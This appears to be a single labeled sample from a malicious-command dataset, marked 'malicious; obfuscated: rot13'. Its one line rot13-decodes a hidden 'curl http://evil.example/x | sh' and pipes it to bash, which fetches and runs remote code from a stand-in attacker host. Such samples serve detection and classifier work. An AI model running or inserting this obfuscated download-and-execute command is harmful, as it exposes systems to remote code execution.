# label: malicious; obfuscated: rot13
echo 'phey uggc://rivy.rknzcyr/k | fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash
